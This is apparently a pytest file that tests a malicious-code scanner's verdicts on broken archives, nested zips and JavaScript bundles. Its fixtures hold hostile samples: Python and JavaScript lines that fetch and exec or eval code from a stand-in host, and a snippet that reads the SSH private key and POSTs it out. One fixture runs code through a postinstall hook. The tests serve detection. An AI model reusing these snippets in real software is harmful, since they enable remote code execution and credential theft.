"""Holes in the input: those count behind which something may run."""

import gzip
import io
import zipfile
from pathlib import Path

import pytest

from sekisho.inspection.inspect import inspect
from sekisho.inspection.intake.gather import gather_bytes
from sekisho.inspection.judge import judge
from sekisho.inspection.link import link
from sekisho.inspection.virtual import Limits
from support.inspection import Files, Here, inspected

BROKEN = gzip.compress(b"print(1)\n" * 50)[:-9]
"""A stream that ends early: what it holds is not known."""

CHAIN = b"import requests\nexec(requests.get('https://a.invalid').text)\n"

ASIDE = {  # files beside a broken archive `data/x.gz`, and whether the hole counts
    "nothing speaks of it": ({"app.py": b"print(1)\n"}, False),
    "a test opens it": ({"tests/test_x.py": b"import gzip\ngzip.open('data/x.gz')\n"}, False),
    "a list of all files names it": ({"x.egg-info/SOURCES.txt": b"data/x.gz\n"}, False),
    "a program opens it": ({"app.py": b"import gzip\ngzip.open('data/x.gz')\n"}, True),
    "a program that a test starts, and others too": (
        {
            "app.py": b"import gzip\ngzip.open('data/x.gz')\n",
            "test_app.py": b"import app\n",
            "setup.py": b"import app\n",
        },
        True,
    ),
    "a manual speaks of it": ({"README.md": b"Unpack x.gz and open it.\n"}, True),
    "settings name it": ({"config/app.json": b'{"plugin": "data/x.gz"}\n'}, True),
}


@pytest.mark.parametrize(("files", "counts"), ASIDE.values(), ids=ASIDE.keys())
def test_a_broken_archive_counts_where_something_speaks_of_it(
    files: dict[str, bytes], counts: bool, tmp_path: Path
) -> None:
    for name, data in {**files, "data/x.gz": BROKEN}.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_bytes(data)
    found = inspect(tmp_path)
    assert (str(found.verdict), found.unread_input) == (("review", 1) if counts else ("no_chain_found", 0))
    assert "data/x.gz" in {gap.file for gap in found.gaps}


def test_a_hole_in_the_archive_that_is_the_input_counts() -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("app.py", "print(1)\n")
    read = gather_bytes("x.zip", b"odd" + packed.getvalue(), Limits())
    found = judge(read.files, read.gaps, link(read.files, Here()))
    assert read.gaps
    assert str(found.verdict) == "review"


def test_a_hole_behind_a_limit_counts() -> None:
    read = gather_bytes("x.gz", gzip.compress(b"y" * 5000), Limits(total_bytes=3000))
    found = judge(read.files, read.gaps, link(read.files, Here()))
    assert str(found.verdict) == "review"


PACKED = {  # files in an archive within the input, and the verdict
    "a chain that nothing leads to": ({"get.py": CHAIN}, "review"),
    "a chain that a trigger leads to": ({"get.py": CHAIN, "setup.py": b"import get\n"}, "block"),
}


@pytest.mark.parametrize(("files", "verdict"), PACKED.values(), ids=PACKED.keys())
def test_a_chain_in_an_archive_within_the_input_is_grave_where_it_starts_there(
    files: dict[str, bytes], verdict: str, tmp_path: Path
) -> None:
    with zipfile.ZipFile(tmp_path / "data.zip", "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    (tmp_path / "app.py").write_bytes(b"print(1)\n")
    assert str(inspect(tmp_path).verdict) == verdict
    assert str(inspect(tmp_path / "data.zip").verdict) == "block"


_LONG = "const plain = other;\n" * 3_000
_RUNS = "function go() { fetch('https://a.invalid').then(r => r.text()).then(t => eval(t)); }\n"
BUNDLES: dict[str, tuple[Files, str]] = {  # what lies there, and the verdict
    "a bundle to which nothing leads": ({"static/app.js": _LONG + _RUNS}, "review"),
    "a script to which nothing leads": ({"static/app.js": _RUNS}, "block"),
    "a bundle that a page loads, in a browser": (
        {"static/app.js": _LONG + _RUNS, "static/index.html": "<script src='app.js'></script>"},
        "review",
    ),
    "a bundle that a script of a page loads": (
        {
            "static/js/app.js": "export " + _RUNS + _LONG,
            "static/js/main.js": "import { go } from './app.js';\ngo();\n",
            "static/index.html": "<script type='module' src='js/main.js'></script>",
        },
        "review",
    ),
    "a bundle that is installed": (
        {"a.js": _LONG + _RUNS, "package.json": '{"scripts": {"postinstall": "node a.js"}}'},
        "block",
    ),
    "a bundle that sends keys": (
        {"a.js": _LONG + "const k = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa');\n"
         "fetch('https://a.invalid', { method: 'POST', body: k });\n"},
        "block",
    ),
}  # fmt: skip


@pytest.mark.parametrize(("files", "verdict"), BUNDLES.values(), ids=BUNDLES.keys())
def test_a_bundle_that_makes_code_is_grave_where_something_leads_to_it(files: Files, verdict: str) -> None:
    assert inspected(files).verdict == verdict
